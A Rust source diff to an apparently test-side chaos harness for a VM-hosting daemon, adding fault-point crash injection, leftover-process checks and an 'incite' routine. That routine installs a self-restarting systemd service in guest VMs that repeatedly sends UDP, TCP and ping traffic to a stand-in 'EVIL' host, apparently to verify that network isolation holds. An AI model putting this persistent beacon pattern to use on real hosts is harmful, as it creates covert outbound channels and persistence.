@@ -3,7 +3,7 @@
 //!
 //! The same seed makes the same calls; what the machine makes of their timing is its own.
 
-use crate::{World, api::Client, daemon::Daemon, net, sh, sites, ssh};
+use crate::{World, api::Client, daemon::Daemon, net, reaper, sh, sites, ssh};
 use anyhow::{Context as _, Result, anyhow, bail, ensure};
 use serde_json::{Value, json};
 use std::{
@@ -284,6 +284,44 @@ impl<'a, 'world> Chaos<'a, 'world> {
         Ok(())
     }
 
+    /// A VM that the account has, in whatever state; its id.
+    pub fn vm(&mut self) -> Result<String> {
+        self.create()?;
+        self.records()?
+            .into_iter()
+            .find(|(_, detail)| detail != "destroyed")
+            .map(|(id, _)| id)
+            .context("no VM")
+    }
+
+    /// Makes the call of a daemon that dies where the file says, and starts the next one.
+    pub fn die_at(
+        &mut self,
+        fault: &std::path::Path,
+        point: &str,
+        call: impl FnOnce(&Client<'world>) -> Result<()>,
+    ) -> Result<()> {
+        fs::write(fault, point)?;
+        // The answer may be lost with the daemon.
+        let _ = call(&self.api);
+        let died = self.daemon.wait_for_death();
+        fs::remove_file(fault)?;
+        died.with_context(|| format!("it never came to {point}; a release build has no such points"))?;
+        self.daemon.start_again()?;
+        self.count("died at a point");
+        Ok(())
+    }
+
+    /// The account's client.
+    pub fn api(&self) -> &Client<'world> {
+        &self.api
+    }
+
+    /// The daemon.
+    pub fn daemon(&self) -> &Daemon<'world> {
+        self.daemon
+    }
+
     /// As if the host had been restarted: daemon, VMMs, namespaces and programs are gone, the disk is there.
     pub fn reboot(&mut self) -> Result<()> {
         self.daemon.kill()?;
@@ -334,6 +372,36 @@ impl<'a, 'world> Chaos<'a, 'world> {
             }
             thread::sleep(Duration::from_millis(300));
         }
+    }
+
+    /// Has each real guest that is ready try to get out without pause, from now on and after each of its starts. Answers how many
+    /// attempts they made since it was asked last.
+    pub fn incite(&self) -> Result<u64> {
+        let evil = sites::EVIL.v4;
+        let unit = format!(
+            "[Service]\nExecStart=/bin/bash -c 'while :; do echo x > /dev/udp/{evil}/7; echo x > /dev/udp/{evil}/443; \
+             timeout 1 bash -c \"echo x > /dev/tcp/{evil}/80\"; timeout 1 bash -c \"echo x > /dev/tcp/{evil}/443\"; \
+             ping -c1 -W1 {evil}; echo >> /root/tries; sleep 0.2; done'\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"
+        );
+        let script = format!(
+            "cat /root/tries 2>/dev/null | wc -l; : > /root/tries; systemctl -q is-active tries && exit; \
+             cat > /etc/systemd/system/tries.service <<'EOF'\n{unit}EOF\n\
+             systemctl enable -q tries && sync && systemctl start tries"
+        );
+        let mut tries = 0;
+        for (vm, detail) in self.records()? {
+            if detail == "ready" {
+                let guest = ssh::Guest::of(self.world, &self.api, &vm)?;
+                let done = guest.sh(&script)?;
+                guest.hang_up();
+                // An agent's VM has no key of ours.
+                if !done.err.contains("Permission denied") {
+                    ensure!(done.ok(), "{vm}: {done:?}");
+                    tries += done.out.trim().parse::<u64>()?;
+                }
+            }
+        }
+        Ok(tries)
     }
 
     /// Whether the VM is what its record says.
@@ -397,14 +465,12 @@ impl<'a, 'world> Chaos<'a, 'world> {
         ensure!(!links.lines().any(|line| line.starts_with("tg")), "taps are left: {links}");
         let pins = names(&self.pins().join("links"));
         ensure!(pins.is_empty(), "links are left: {pins:?}");
-        let groups = names("/sys/fs/cgroup/tapgate".as_ref());
-        let ours: Vec<_> = self
-            .records()?
-            .into_iter()
-            .map(|(id, _)| id)
-            .filter(|id| groups.iter().any(|g| g.contains(id.as_str())))
-            .collect();
+        let ids: Vec<String> = self.records()?.into_iter().map(|(id, _)| id).collect();
+        let groups: Vec<_> = reaper::CGROUPS.iter().flat_map(|groups| names(groups.as_ref())).collect();
+        let ours: Vec<_> = ids.iter().filter(|id| groups.iter().any(|g| g.contains(id.as_str()))).collect();
         ensure!(ours.is_empty(), "control groups are left: {ours:?}");
+        let processes = reaper::processes_with(&ids);
+        ensure!(processes.is_empty(), "VMMs are left: {processes:?}");
         let staged = names(&self.daemon.data_dir().join("staging"));
         ensure!(staged.iter().all(|name| !name.ends_with(".part")), "half snapshots are left: {staged:?}");
         let folder = self.daemon.data_dir().join("vms");
